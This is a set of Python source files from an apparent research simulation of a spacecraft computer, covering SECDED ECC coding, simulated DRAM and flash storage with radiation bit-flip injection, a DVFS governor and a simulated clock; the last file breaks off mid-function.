nonzero      odd             single-bit error at position ``s``
nonzero      even            double-bit error (detected, uncorrectable)
===========  ==============  =====================================

Both a scalar API (one word at a time) and a vectorized API operating
on ``numpy.uint64`` arrays are provided; the memory model uses the
vectorized path for bulk reads and writes.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

_PARITY_POSITIONS = (1, 2, 4, 8, 16, 32, 64)
_DATA_POSITIONS = tuple(p for p in range(1, 72) if p not in _PARITY_POSITIONS)
assert len(_DATA_POSITIONS) == 64

#: For each Hamming parity bit 2**k, a 64-bit mask over *data bit indices*
#: selecting the data bits whose codeword position has bit k set.
_PARITY_MASKS: tuple[int, ...] = tuple(
    sum(
        1 << data_bit
        for data_bit, pos in enumerate(_DATA_POSITIONS)
        if pos & parity_pos
    )
    for parity_pos in _PARITY_POSITIONS
)

#: Maps codeword position -> data bit index, or -1 for parity positions.
_POSITION_TO_DATA_BIT = np.full(72, -1, dtype=np.int8)
for _i, _pos in enumerate(_DATA_POSITIONS):
    _POSITION_TO_DATA_BIT[_pos] = _i

#: Maps codeword position -> check bit index (0 = overall, 1..7 = Hamming),
#: or -1 for data positions.
_POSITION_TO_CHECK_BIT = np.full(72, -1, dtype=np.int8)
_POSITION_TO_CHECK_BIT[0] = 0
for _i, _pos in enumerate(_PARITY_POSITIONS):
    _POSITION_TO_CHECK_BIT[_pos] = _i + 1

_PARITY_MASKS_U64 = np.array(_PARITY_MASKS, dtype=np.uint64)


def _parity_u64(values: np.ndarray) -> np.ndarray:
    """Bitwise parity (popcount mod 2) of each uint64, vectorized."""
    v = values.copy()
    for shift in (32, 16, 8, 4, 2, 1):
        v ^= v >> np.uint64(shift)
    return (v & np.uint64(1)).astype(np.uint8)


def _parity_int(value: int) -> int:
    return bin(value).count("1") & 1


@dataclass(frozen=True)
class DecodeResult:
    """Outcome of decoding one codeword."""

    data: int
    corrected: bool  # a single-bit error was repaired
    uncorrectable: bool  # a double-bit error was detected

    @property
    def clean(self) -> bool:
        return not self.corrected and not self.uncorrectable


def encode(data: int) -> int:
    """Encode a 64-bit data word into the 8 check bits.

    Returns the check byte: bit 0 is the overall parity, bits 1..7 the
    Hamming parity bits for positions 1, 2, 4, 8, 16, 32, 64.
    """
    data &= (1 << 64) - 1
    check = 0
    for k, mask in enumerate(_PARITY_MASKS):
        check |= _parity_int(data & mask) << (k + 1)
    # Overall parity covers every codeword bit: data bits plus the
    # seven Hamming bits just computed.
    overall = _parity_int(data) ^ _parity_int(check >> 1)
    check |= overall
    return check


def decode(data: int, check: int) -> DecodeResult:
    """Decode (and, if possible, correct) a stored word + check byte.

    ``data``/``check`` are the possibly-corrupted stored values.
    """
    data &= (1 << 64) - 1
    check &= 0xFF
    syndrome = 0
    for k, mask in enumerate(_PARITY_MASKS):
        recomputed = _parity_int(data & mask)
        stored = (check >> (k + 1)) & 1
        if recomputed != stored:
            syndrome |= _PARITY_POSITIONS[k]
    overall_recomputed = _parity_int(data) ^ _parity_int(check >> 1)
    overall_mismatch = overall_recomputed != (check & 1)

    if syndrome == 0:
        if not overall_mismatch:
            return DecodeResult(data, corrected=False, uncorrectable=False)
        # The overall parity bit itself flipped; data is intact.
        return DecodeResult(data, corrected=True, uncorrectable=False)
    if not overall_mismatch:
        # Nonzero syndrome with even overall parity: two bits flipped.
        return DecodeResult(data, corrected=False, uncorrectable=True)
    if syndrome >= 72:
        # Syndrome points outside the codeword: multi-bit corruption
        # that aliased; treat as detected-uncorrectable.
        return DecodeResult(data, corrected=False, uncorrectable=True)
    data_bit = int(_POSITION_TO_DATA_BIT[syndrome])
    if data_bit >= 0:
        data ^= 1 << data_bit
    # (If the flip hit a parity position the data is already correct.)
    return DecodeResult(data, corrected=True, uncorrectable=False)


def encode_array(words: np.ndarray) -> np.ndarray:
    """Vectorized :func:`encode` over a ``uint64`` array -> ``uint8`` checks."""
    words = np.asarray(words, dtype=np.uint64)
    check = np.zeros(words.shape, dtype=np.uint8)
    hamming_parity = np.zeros(words.shape, dtype=np.uint8)
    for k in range(7):
        bit = _parity_u64(words & _PARITY_MASKS_U64[k])
        check |= (bit << np.uint8(k + 1)).astype(np.uint8)
        hamming_parity ^= bit
    overall = _parity_u64(words) ^ hamming_parity
    check |= overall
    return check


def decode_array(
    words: np.ndarray, checks: np.ndarray
) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Vectorized :func:`decode`.

    Returns ``(corrected_words, corrected_mask, uncorrectable_mask)``.
    """
    words = np.asarray(words, dtype=np.uint64).copy()
    checks = np.asarray(checks, dtype=np.uint8)
    syndrome = np.zeros(words.shape, dtype=np.int16)
    hamming_parity = np.zeros(words.shape, dtype=np.uint8)
    for k in range(7):
        recomputed = _parity_u64(words & _PARITY_MASKS_U64[k])
        stored = (checks >> np.uint8(k + 1)) & np.uint8(1)
        mismatch = recomputed ^ stored
        syndrome += mismatch.astype(np.int16) * _PARITY_POSITIONS[k]
        hamming_parity ^= (checks >> np.uint8(k + 1)) & np.uint8(1)
    overall_recomputed = _parity_u64(words) ^ hamming_parity
    overall_mismatch = overall_recomputed != (checks & np.uint8(1))

    zero_syndrome = syndrome == 0
    uncorrectable = (~zero_syndrome) & (~overall_mismatch)
    uncorrectable |= (~zero_syndrome) & overall_mismatch & (syndrome >= 72)
    single = (~zero_syndrome) & overall_mismatch & (syndrome < 72)
    parity_only = zero_syndrome & overall_mismatch

    if np.any(single):
        idx = np.nonzero(single)[0]
        positions = syndrome[idx]
        data_bits = _POSITION_TO_DATA_BIT[positions]
        fixable = data_bits >= 0
        flip_idx = idx[fixable]
        flip_bits = data_bits[fixable].astype(np.uint64)
        words[flip_idx] ^= np.uint64(1) << flip_bits

    corrected = single | parity_only
    return words, corrected, uncorrectable


def bytes_to_words(data: bytes) -> np.ndarray:
    """Pack bytes (length must be a multiple of 8) into uint64 words."""
    if len(data) % 8:
        raise ValueError(f"length {len(data)} is not a multiple of 8")
    return np.frombuffer(data, dtype="<u8").copy()


def words_to_bytes(words: np.ndarray) -> bytes:
    """Inverse of :func:`bytes_to_words`."""
    return np.asarray(words, dtype="<u8").tobytes()
