"""Simulated spacecraft-computer substrate.

Everything Radshield's two components need from "hardware" — cores,
caches, ECC DRAM/flash, a power rail, a current sensor, perf counters —
implemented as a deterministic, seedable simulation. See DESIGN.md for
the substitution rationale.
"""

from .cache import AccessTrace, Cache, CacheHierarchy, CacheStats
from .clock import SimClock, Stopwatch
from .batch import (
    DEFAULT_LANE_MODE,
    BatchMachines,
    FleetTicker,
    LaneEvents,
    SelStep,
    SeuStrike,
    TickAlarm,
    TickConfig,
    TickDeath,
    TickLaneMode,
    TickProgram,
    TickRunReport,
    TickState,
    merge_reports,
)
from .core import Core, CoreCounters, CoreGroup, CoreSpec, ExecutionCost
from .dvfs import OndemandGovernor
from .faults import (
    PROTECTION_CLASSES,
    SCOPES,
    CensusEntry,
    FaultDomain,
    FaultRegion,
    FaultSurface,
    StrikeRecord,
    census_json,
    flip_float64,
    flip_int_bit,
    render_census,
)
from .machine import Machine, MachineSpec
from .memory import MemoryRegion, MemoryStats, SimMemory
from .perfcounters import (
    GLOBAL_METRICS,
    PER_CORE_METRICS,
    CounterFrame,
    PerfCounterSampler,
    feature_names,
    n_features,
)
from .power import EnergyMeter, EnergyReport, PowerModel, PowerModelParams
from .psu import OcpConfig, OcpTrip, OvercurrentProtection
from .sensor import CurrentSensor, SensorParams
from .storage import FlashStorage, StorageAccess, StorageStats
from .telemetry import (
    ActivitySegment,
    CurrentStep,
    HousekeepingParams,
    TelemetryConfig,
    TelemetryTrace,
    TraceGenerator,
    burst_schedule,
    quiescent_segment,
)

__all__ = [
    "AccessTrace",
    "ActivitySegment",
    "BatchMachines",
    "Cache",
    "CacheHierarchy",
    "CacheStats",
    "CensusEntry",
    "Core",
    "CoreCounters",
    "CoreGroup",
    "CoreSpec",
    "CounterFrame",
    "CurrentSensor",
    "CurrentStep",
    "DEFAULT_LANE_MODE",
    "EnergyMeter",
    "EnergyReport",
    "ExecutionCost",
    "FaultDomain",
    "FaultRegion",
    "FaultSurface",
    "FlashStorage",
    "FleetTicker",
    "GLOBAL_METRICS",
    "HousekeepingParams",
    "LaneEvents",
    "Machine",
    "MachineSpec",
    "MemoryRegion",
    "MemoryStats",
    "OcpConfig",
    "OcpTrip",
    "OndemandGovernor",
    "OvercurrentProtection",
    "PER_CORE_METRICS",
    "PROTECTION_CLASSES",
    "PerfCounterSampler",
    "PowerModel",
    "PowerModelParams",
    "SCOPES",
    "SelStep",
    "SensorParams",
    "SeuStrike",
    "SimClock",
    "SimMemory",
    "Stopwatch",
    "StorageAccess",
    "StorageStats",
    "StrikeRecord",
    "TelemetryConfig",
    "TelemetryTrace",
    "TickAlarm",
    "TickConfig",
    "TickDeath",
    "TickLaneMode",
    "TickProgram",
    "TickRunReport",
    "TickState",
    "TraceGenerator",
    "burst_schedule",
    "census_json",
    "merge_reports",
    "feature_names",
    "flip_float64",
    "flip_int_bit",
    "n_features",
    "quiescent_segment",
    "render_census",
]
