"""DVFS frequency governor.

Current draw tracks frequency and voltage, so the governor is a large
part of why a static current threshold cannot see a 0.07 A latchup:
frequency scaling alone swings the board's current by amperes (Fig 2).
The model implements an ``ondemand``-style governor: frequency steps up
with utilization and decays when idle.
"""

from __future__ import annotations

import numpy as np

from ..errors import ConfigurationError
from .core import CoreSpec


class OndemandGovernor:
    """Maps per-core utilization to a DVFS level, with hysteresis."""

    def __init__(
        self,
        spec: "CoreSpec | None" = None,
        up_threshold: float = 0.80,
        down_threshold: float = 0.30,
    ) -> None:
        self.spec = spec or CoreSpec()
        if not 0 < down_threshold < up_threshold <= 1:
            raise ConfigurationError(
                "need 0 < down_threshold < up_threshold <= 1, got "
                f"{down_threshold}, {up_threshold}"
            )
        self.up_threshold = up_threshold
        self.down_threshold = down_threshold

    def level_for_utilization(self, utilization: float, current_freq: float) -> float:
        """One governor step: raise to max on load, step down when idle."""
        levels = self.spec.freq_levels
        if utilization >= self.up_threshold:
            return levels[-1]
        if utilization <= self.down_threshold:
            index = max(0, levels.index(current_freq) - 1) if current_freq in levels else 0
            return levels[index]
        return current_freq if current_freq in levels else levels[0]

    def steady_state_freq(self, utilization: float) -> float:
        """Frequency the governor converges to under constant load."""
        levels = self.spec.freq_levels
        if utilization >= self.up_threshold:
            return levels[-1]
        if utilization <= self.down_threshold:
            return levels[0]
        # Partial load settles proportionally between min and max.
        span = (utilization - self.down_threshold) / (
            self.up_threshold - self.down_threshold
        )
        index = int(round(span * (len(levels) - 1)))
        return levels[index]

    def steady_state_freq_array(self, utilization: np.ndarray) -> np.ndarray:
        """Vectorized :meth:`steady_state_freq` for telemetry generation."""
        levels = np.asarray(self.spec.freq_levels)
        utilization = np.asarray(utilization, dtype=float)
        span = (utilization - self.down_threshold) / (
            self.up_threshold - self.down_threshold
        )
        index = np.clip(np.round(span * (len(levels) - 1)), 0, len(levels) - 1)
        return levels[index.astype(int)]
