"""Discrete simulated time.

All machine components share one :class:`SimClock`. Time is kept in
float seconds; components advance it explicitly (discrete-event style)
rather than by fixed ticks, so a 2400-second compute phase costs one
update, not 2.4 million.
"""

from __future__ import annotations

from ..errors import SimulationError


class SimClock:
    """Monotonic simulated clock measured in seconds."""

    def __init__(self, start: float = 0.0) -> None:
        self._now = float(start)
        self._reset_guards: "list" = []

    @property
    def now(self) -> float:
        """Current simulated time in seconds."""
        return self._now

    def advance(self, dt: float) -> float:
        """Move time forward by ``dt`` seconds and return the new time."""
        if dt < 0:
            raise SimulationError(f"cannot advance clock by negative dt={dt}")
        self._now += dt
        return self._now

    def advance_to(self, t: float) -> float:
        """Move time forward to absolute time ``t`` (no-op if already past)."""
        if t > self._now:
            self._now = t
        return self._now

    def on_reset(self, guard) -> None:
        """Register a reset guard: a callable returning a description of
        pending component state (or ``None``/empty when clean).

        A machine's components register guards so that rewinding the
        clock under live state — resident cache lines, allocated DRAM,
        an active latchup's current draw — fails loudly instead of
        silently producing a machine whose timestamps contradict its
        contents. The supported way to reuse a machine for a fresh
        experiment is ``Machine.snapshot()`` / ``Machine.restore()``,
        which rewinds *all* state together.
        """
        self._reset_guards.append(guard)

    def reset(self, start: float = 0.0, *, force: bool = False) -> None:
        """Rewind the clock; refuses while components hold pending state.

        ``force=True`` skips the guards (used by ``Machine.restore``,
        which rewinds component state in the same operation).
        """
        if not force:
            pending = [msg for msg in (g() for g in self._reset_guards) if msg]
            if pending:
                raise SimulationError(
                    "clock reset with pending component state ("
                    + "; ".join(pending)
                    + ") — restore a Machine snapshot for a fresh "
                    "experiment, or pass force=True"
                )
        self._now = float(start)

    def __repr__(self) -> str:
        return f"SimClock(t={self._now:.6f}s)"


class Stopwatch:
    """Measures spans of simulated time against a :class:`SimClock`.

    Used by the EMR runtime to produce the per-operation breakdown of
    Table 6 (disk read / allocation / compute / cache clear).
    """

    def __init__(self, clock: SimClock) -> None:
        self._clock = clock
        self._spans: dict[str, float] = {}
        self._open: dict[str, float] = {}

    def start(self, label: str) -> None:
        if label in self._open:
            raise SimulationError(f"span {label!r} already started")
        self._open[label] = self._clock.now

    def stop(self, label: str) -> float:
        try:
            began = self._open.pop(label)
        except KeyError:
            raise SimulationError(f"span {label!r} was never started") from None
        elapsed = self._clock.now - began
        self._spans[label] = self._spans.get(label, 0.0) + elapsed
        return elapsed

    def add(self, label: str, seconds: float) -> None:
        """Credit a span directly (for costs computed analytically)."""
        if seconds < 0:
            raise SimulationError(f"negative span {seconds} for {label!r}")
        self._spans[label] = self._spans.get(label, 0.0) + seconds

    def total(self, label: str) -> float:
        return self._spans.get(label, 0.0)

    def breakdown(self) -> dict[str, float]:
        """All accumulated spans, label -> seconds."""
        return dict(self._spans)
