"""Flash storage with built-in SECDED ECC and a droppable page cache.

Commodity eMMC/SD storage ships with per-sector ECC, so the paper
treats *data at rest* as safe: storage is always inside the reliability
frontier. What is **not** safe is the OS page cache, which lives in
DRAM — on a machine without ECC DRAM, a cached page can be corrupted
after it was read from flash. That is why EMR must "clear the page
cache before proceeding" when the frontier sits at storage (§3.2).

The model mirrors this split: the backing store is an ECC
:class:`~repro.sim.memory.SimMemory`, while the page cache holds plain
``bytearray`` copies that the radiation layer may flip.
"""

from __future__ import annotations

from dataclasses import dataclass, replace

from ..errors import ConfigurationError, InvalidAddressError
from .faults import FaultRegion
from .memory import MemorySnapshot, SimMemory


@dataclass
class StorageStats:
    reads: int = 0
    writes: int = 0
    bytes_read: int = 0
    bytes_written: int = 0
    page_cache_hits: int = 0
    page_cache_drops: int = 0
    read_ios: int = 0
    write_ios: int = 0

    def reset(self) -> None:
        self.reads = 0
        self.writes = 0
        self.bytes_read = 0
        self.bytes_written = 0
        self.page_cache_hits = 0
        self.page_cache_drops = 0
        self.read_ios = 0
        self.write_ios = 0


@dataclass(frozen=True)
class StorageSnapshot:
    """Logical state of a flash device: media, file table, page cache."""

    backing: MemorySnapshot
    files: "tuple[tuple[str, tuple[int, int]], ...]"
    page_cache: "tuple[tuple[str, bytes], ...]"
    stats: StorageStats


@dataclass(frozen=True)
class StorageAccess:
    """Data plus the simulated time the access cost."""

    data: bytes
    seconds: float
    from_page_cache: bool


class FlashStorage:
    """A named-file flash device with ECC sectors and a page cache.

    Parameters
    ----------
    capacity:
        Device size in bytes.
    read_bandwidth / write_bandwidth:
        Sustained throughput in bytes/second (defaults are SD-card
        class, matching the Raspberry Pi testbed).
    access_latency:
        Fixed per-IO latency in seconds.
    io_size:
        Bytes per IO request, used to convert transfers into the
        read/write IO counts that feed ILD's Table 1 disk metrics.
    """

    def __init__(
        self,
        capacity: int = 64 << 20,
        read_bandwidth: float = 40e6,
        write_bandwidth: float = 18e6,
        access_latency: float = 0.4e-3,
        io_size: int = 4096,
        name: str = "flash",
    ) -> None:
        if read_bandwidth <= 0 or write_bandwidth <= 0:
            raise ConfigurationError("bandwidths must be positive")
        if io_size <= 0:
            raise ConfigurationError("io_size must be positive")
        self.name = name
        self.read_bandwidth = read_bandwidth
        self.write_bandwidth = write_bandwidth
        self.access_latency = access_latency
        self.io_size = io_size
        self._backing = SimMemory(capacity, ecc=True, name=f"{name}-backing")
        self._files: dict[str, "tuple[int, int]"] = {}  # name -> (addr, size)
        self._page_cache: dict[str, bytearray] = {}
        self.stats = StorageStats()

    # ------------------------------------------------------------------
    # File table
    # ------------------------------------------------------------------
    def store(self, filename: str, data: bytes) -> None:
        """Write a file to flash (replacing any previous version)."""
        if filename in self._files and self._files[filename][1] >= len(data):
            addr, _ = self._files[filename]
            self._files[filename] = (addr, len(data))
        else:
            region = self._backing.alloc(len(data), label=filename)
            self._files[filename] = (region.addr, region.size)
            addr = region.addr
        self._backing.write(addr, data)
        self._page_cache.pop(filename, None)
        self.stats.writes += 1
        self.stats.bytes_written += len(data)
        self.stats.write_ios += self._ios(len(data))

    def exists(self, filename: str) -> bool:
        return filename in self._files

    def file_size(self, filename: str) -> int:
        return self._entry(filename)[1]

    def filenames(self) -> tuple[str, ...]:
        return tuple(self._files)

    def _entry(self, filename: str) -> "tuple[int, int]":
        try:
            return self._files[filename]
        except KeyError:
            raise InvalidAddressError(f"{self.name}: no such file {filename!r}") from None

    def _ios(self, nbytes: int) -> int:
        return max(1, (nbytes + self.io_size - 1) // self.io_size)

    # ------------------------------------------------------------------
    # Reads
    # ------------------------------------------------------------------
    def read(
        self, filename: str, offset: int = 0, size: "int | None" = None
    ) -> StorageAccess:
        """Read ``size`` bytes of a file.

        Whole files are staged through the page cache: the first read
        pulls from flash (slow, ECC-verified); subsequent reads hit the
        page-cache copy in DRAM (fast, *unverified* — flippable).
        """
        addr, fsize = self._entry(filename)
        if size is None:
            size = fsize - offset
        if offset < 0 or size < 0 or offset + size > fsize:
            raise InvalidAddressError(
                f"{self.name}: read [{offset}, {offset + size}) outside "
                f"{filename!r} of size {fsize}"
            )
        self.stats.reads += 1
        self.stats.bytes_read += size
        cached = self._page_cache.get(filename)
        if cached is not None:
            self.stats.page_cache_hits += 1
            # DRAM-speed copy: charge a token cost, not flash latency.
            return StorageAccess(
                bytes(cached[offset : offset + size]),
                seconds=size / 2e9,
                from_page_cache=True,
            )
        blob = self._backing.read(addr, fsize)
        self._page_cache[filename] = bytearray(blob)
        seconds = self.access_latency + fsize / self.read_bandwidth
        self.stats.read_ios += self._ios(fsize)
        return StorageAccess(blob[offset : offset + size], seconds, False)

    def drop_page_cache(self) -> int:
        """Evict every cached page (``echo 3 > drop_caches`` analog)."""
        dropped = len(self._page_cache)
        self._page_cache.clear()
        self.stats.page_cache_drops += 1
        return dropped

    @property
    def cached_files(self) -> tuple[str, ...]:
        return tuple(self._page_cache)

    # ------------------------------------------------------------------
    # Snapshot / restore
    # ------------------------------------------------------------------
    def snapshot(self) -> StorageSnapshot:
        return StorageSnapshot(
            backing=self._backing.snapshot(),
            files=tuple(self._files.items()),
            page_cache=tuple(
                (name, bytes(page)) for name, page in self._page_cache.items()
            ),
            stats=replace(self.stats),
        )

    def restore(self, snap: StorageSnapshot) -> None:
        self._backing.restore(snap.backing)
        self._files = dict(snap.files)
        self._page_cache = {
            name: bytearray(page) for name, page in snap.page_cache
        }
        self.stats = replace(snap.stats)

    # ------------------------------------------------------------------
    # Fault domain (see repro.sim.faults)
    # ------------------------------------------------------------------
    def page_cache_address(self, filename: str, byte_offset: int) -> int:
        """Region offset of one cached byte: pages concatenate in
        cache-insertion order, so ``page_cache`` offsets stay stable
        between a census and the strikes aimed with it."""
        base = 0
        for name, page in self._page_cache.items():
            if name == filename:
                if not 0 <= byte_offset < len(page):
                    raise InvalidAddressError(
                        f"offset {byte_offset} outside cached page {filename!r}"
                    )
                return base + byte_offset
            base += len(page)
        raise InvalidAddressError(
            f"{self.name}: {filename!r} is not in the page cache"
        )

    def _locate(self, entries, offset: int, what: str) -> "tuple[str, int]":
        for name, size in entries:
            if offset < size:
                return name, offset
            offset -= size
        raise InvalidAddressError(f"{self.name}: offset outside {what}")

    def fault_census(self) -> "tuple[FaultRegion, ...]":
        """The at-rest split §3.2 relies on: media bytes sit behind
        per-sector SECDED (always inside the reliability frontier),
        while their page-cache copies are plain DRAM bytes."""
        cached = sum(len(page) for page in self._page_cache.values())
        stored = sum(size for _, size in self._files.values())
        return (
            FaultRegion("page_cache", cached * 8, protection="none",
                        scope="shared"),
            FaultRegion("media", stored * 8, protection="secded",
                        scope="shared"),
        )

    def fault_strike(self, region: str, offset: int, bit: int) -> str:
        if region == "page_cache":
            entries = [
                (name, len(page)) for name, page in self._page_cache.items()
            ]
            filename, local = self._locate(entries, offset, "the page cache")
            self.flip_page_cache_bit(filename, local, bit)
            return f"{self.name} page cache {filename}+{local} bit {bit & 7}"
        if region == "media":
            entries = [
                (name, size) for name, (_, size) in self._files.items()
            ]
            filename, local = self._locate(entries, offset, "stored files")
            self.flip_media_bit(filename, local, bit)
            return f"{self.name} media {filename}+{local} bit {bit & 7}"
        raise InvalidAddressError(f"{self.name}: no fault region {region!r}")

    # ------------------------------------------------------------------
    # Radiation interface
    # ------------------------------------------------------------------
    def flip_page_cache_bit(self, filename: str, byte_offset: int, bit: int) -> None:
        """Corrupt a page-cache copy (DRAM-resident, no ECC coverage)."""
        try:
            page = self._page_cache[filename]
        except KeyError:
            raise InvalidAddressError(
                f"{self.name}: {filename!r} is not in the page cache"
            ) from None
        if not 0 <= byte_offset < len(page):
            raise InvalidAddressError(f"offset {byte_offset} outside cached page")
        page[byte_offset] ^= 1 << (bit & 7)

    def flip_media_bit(self, filename: str, byte_offset: int, bit: int) -> None:
        """Corrupt the flash medium itself (ECC will correct on read)."""
        addr, fsize = self._entry(filename)
        if not 0 <= byte_offset < fsize:
            raise InvalidAddressError(f"offset {byte_offset} outside {filename!r}")
        self._backing.flip_bit(addr + byte_offset, bit)

    @property
    def media_stats(self):
        return self._backing.stats
