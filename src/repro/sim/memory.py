"""Simulated DRAM with an optional SECDED ECC layer.

The byte store is real: workloads read and write actual bytes here, and
radiation faults flip actual stored bits (without updating the check
bits — exactly what an energetic particle does). On a read, an
ECC-equipped DRAM corrects single-bit flips per 64-bit word, counts the
correction, and raises :class:`~repro.errors.UncorrectableMemoryError`
for double-bit flips — giving EMR its *reliability frontier*. With
``ecc=False`` (the Snapdragon-801 configuration the paper flew to Mars)
flips silently corrupt the data a reader sees.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace

import numpy as np

from ..errors import AllocationError, InvalidAddressError, UncorrectableMemoryError
from . import ecc
from .faults import FaultRegion

_WORD = 8


@dataclass(frozen=True)
class MemoryRegion:
    """A contiguous span of simulated memory, ``[addr, addr + size)``."""

    addr: int
    size: int
    label: str = ""

    @property
    def end(self) -> int:
        return self.addr + self.size

    def overlaps(self, other: "MemoryRegion") -> bool:
        if not self.size or not other.size:
            return False
        return self.addr < other.end and other.addr < self.end

    def contains(self, addr: int) -> bool:
        return self.addr <= addr < self.end

    def subregion(self, offset: int, size: int, label: str = "") -> "MemoryRegion":
        if offset < 0 or size < 0 or offset + size > self.size:
            raise InvalidAddressError(
                f"subregion ({offset}, {size}) exceeds {self.label or 'region'}"
                f" of size {self.size}"
            )
        return MemoryRegion(self.addr + offset, size, label or self.label)

    def line_span(self, line_size: int) -> range:
        """Cache-line indices this region touches."""
        first = self.addr // line_size
        last = (self.end - 1) // line_size if self.size else first - 1
        return range(first, last + 1)


@dataclass
class MemoryStats:
    """Access and error accounting for one DRAM device."""

    reads: int = 0
    writes: int = 0
    bytes_read: int = 0
    bytes_written: int = 0
    corrected_errors: int = 0
    detected_errors: int = 0
    injected_flips: int = 0
    corrected_addresses: list = field(default_factory=list)

    def reset(self) -> None:
        self.reads = 0
        self.writes = 0
        self.bytes_read = 0
        self.bytes_written = 0
        self.corrected_errors = 0
        self.detected_errors = 0
        self.injected_flips = 0
        self.corrected_addresses.clear()

    def copy(self) -> "MemoryStats":
        return replace(self, corrected_addresses=list(self.corrected_addresses))


@dataclass(frozen=True)
class MemorySnapshot:
    """Full logical state of one :class:`SimMemory` device.

    Only the touched prefix (``high_water`` bytes) is materialised:
    every byte beyond it is guaranteed zero, because writes and
    injected flips are the only mutation paths and both advance the
    high-water mark. A snapshot of a mostly-empty 48 MB device is
    therefore KB-sized and cheap to pickle into worker processes.
    """

    size: int
    has_ecc: bool
    high_water: int
    data: bytes
    checks: "bytes | None"
    bump: int
    allocations: "tuple[MemoryRegion, ...]"
    dirty_words: "tuple[int, ...]"
    stats: MemoryStats


class SimMemory:
    """Byte-addressable simulated DRAM.

    Parameters
    ----------
    size:
        Capacity in bytes (rounded up to a multiple of 8).
    ecc:
        Whether this DRAM carries SECDED check bits (per 64-bit word).
    name:
        Used in error messages and telemetry labels.
    """

    def __init__(self, size: int, ecc: bool = True, name: str = "dram") -> None:
        if size <= 0:
            raise AllocationError(f"memory size must be positive, got {size}")
        size = (size + _WORD - 1) // _WORD * _WORD
        self.size = size
        self.name = name
        self.has_ecc = ecc
        # np.zeros is calloc-backed: a 48 MB device costs microseconds
        # (lazy zero pages) instead of the milliseconds bytearray spends
        # memset-ing, which dominates Machine construction in campaigns.
        self._data = np.zeros(size, dtype=np.uint8)
        # All-zero data with all-zero checks is a valid SECDED codeword
        # (encode(0) == 0), so fresh memory needs no initial encoding.
        self._checks = np.zeros(size // _WORD, dtype=np.uint8) if ecc else None
        self._bump = 0
        self._allocations: list[MemoryRegion] = []
        self.stats = MemoryStats()
        # Word indices whose stored bits diverge from their check bits
        # (i.e. radiation landed there and has not yet been scrubbed).
        # Reads of spans that avoid these words can skip ECC decode:
        # every write re-encodes, so untouched words are valid codewords
        # and decoding them is the identity.
        self._dirty_words: set[int] = set()
        # Word-aligned upper bound of every byte ever written or
        # flipped; bytes at or beyond it are still calloc-zero. Keeps
        # snapshots proportional to *touched* memory, not capacity.
        self._high_water = 0

    def _note_touch(self, end: int) -> None:
        if end > self._high_water:
            self._high_water = min(self.size, (end + _WORD - 1) // _WORD * _WORD)

    # ------------------------------------------------------------------
    # Allocation
    # ------------------------------------------------------------------
    def alloc(self, size: int, label: str = "", align: int = _WORD) -> MemoryRegion:
        """Bump-allocate a region aligned to ``align`` (>= 8) bytes.

        EMR allocates input blobs cache-line aligned so that conflict
        detection in blob-relative coordinates matches the machine's
        physical line layout.
        """
        if size < 0:
            raise AllocationError(f"allocation size must be >= 0, got {size}")
        if align < _WORD or align % _WORD:
            raise AllocationError(f"align must be a multiple of {_WORD}, got {align}")
        self._bump = (self._bump + align - 1) // align * align
        aligned = (size + align - 1) // align * align
        if self._bump + aligned > self.size:
            raise AllocationError(
                f"{self.name}: out of memory allocating {size} bytes "
                f"({self.size - self._bump} free of {self.size})"
            )
        region = MemoryRegion(self._bump, size, label)
        self._bump += aligned
        self._allocations.append(region)
        return region

    def free_all(self) -> None:
        """Release every allocation (contents remain until overwritten)."""
        self._bump = 0
        self._allocations.clear()

    @property
    def allocations(self) -> tuple[MemoryRegion, ...]:
        return tuple(self._allocations)

    @property
    def allocated_bytes(self) -> int:
        return self._bump

    # ------------------------------------------------------------------
    # Access
    # ------------------------------------------------------------------
    def _span_dirty(self, first_word: int, last_word: int) -> bool:
        if not self._dirty_words:
            return False
        if last_word - first_word + 1 < len(self._dirty_words):
            return any(
                w in self._dirty_words for w in range(first_word, last_word + 1)
            )
        return any(first_word <= w <= last_word for w in self._dirty_words)

    def _check_span(self, addr: int, n: int) -> None:
        if addr < 0 or n < 0 or addr + n > self.size:
            raise InvalidAddressError(
                f"{self.name}: access [{addr}, {addr + n}) outside device "
                f"of size {self.size}"
            )

    def _reencode_words(self, first_word: int, count: int) -> None:
        assert self._checks is not None
        start = first_word * _WORD
        stop = (first_word + count) * _WORD
        words = self._data[start:stop].view("<u8")
        self._checks[first_word : first_word + count] = ecc.encode_array(words)

    def write(self, addr: int, data: bytes) -> None:
        """Store ``data`` at ``addr`` and refresh ECC for touched words.

        Partial-word writes decode-and-correct the word first (the
        read-modify-write a real ECC memory controller performs), so a
        latent single-bit error in untouched bytes is scrubbed rather
        than laundered into a freshly valid codeword.
        """
        n = len(data)
        self._check_span(addr, n)
        if n == 0:
            return
        self._note_touch(addr + n)
        if self.has_ecc:
            first_word = addr // _WORD
            last_word = (addr + n - 1) // _WORD
            # Scrub partially-covered boundary words before overwriting.
            if addr % _WORD:
                self._scrub_word(first_word)
            if (addr + n) % _WORD and last_word != first_word:
                self._scrub_word(last_word)
        self._data[addr : addr + n] = np.frombuffer(data, dtype=np.uint8)
        if self.has_ecc:
            first_word = addr // _WORD
            last_word = (addr + n - 1) // _WORD
            self._reencode_words(first_word, last_word - first_word + 1)
            if self._dirty_words:
                self._dirty_words.difference_update(
                    range(first_word, last_word + 1)
                )
        self.stats.writes += 1
        self.stats.bytes_written += n

    def _scrub_word(self, word_index: int) -> None:
        assert self._checks is not None
        start = word_index * _WORD
        word = int(self._data[start : start + _WORD].view("<u8")[0])
        result = ecc.decode(word, int(self._checks[word_index]))
        if result.uncorrectable:
            self.stats.detected_errors += 1
            raise UncorrectableMemoryError(start)
        if result.corrected:
            self.stats.corrected_errors += 1
            self.stats.corrected_addresses.append(start)
            self._data[start : start + _WORD].view("<u8")[0] = result.data
            self._checks[word_index] = ecc.encode(result.data)
        self._dirty_words.discard(word_index)

    def read(self, addr: int, n: int) -> bytes:
        """Load ``n`` bytes, correcting single-bit errors on the way."""
        self._check_span(addr, n)
        self.stats.reads += 1
        self.stats.bytes_read += n
        if n == 0:
            return b""
        if not self.has_ecc:
            return bytes(self._data[addr : addr + n])
        first_word = addr // _WORD
        last_word = (addr + n - 1) // _WORD
        if not self._span_dirty(first_word, last_word):
            return bytes(self._data[addr : addr + n])
        start = first_word * _WORD
        stop = (last_word + 1) * _WORD
        words = self._data[start:stop].view("<u8")
        checks = self._checks[first_word : last_word + 1]
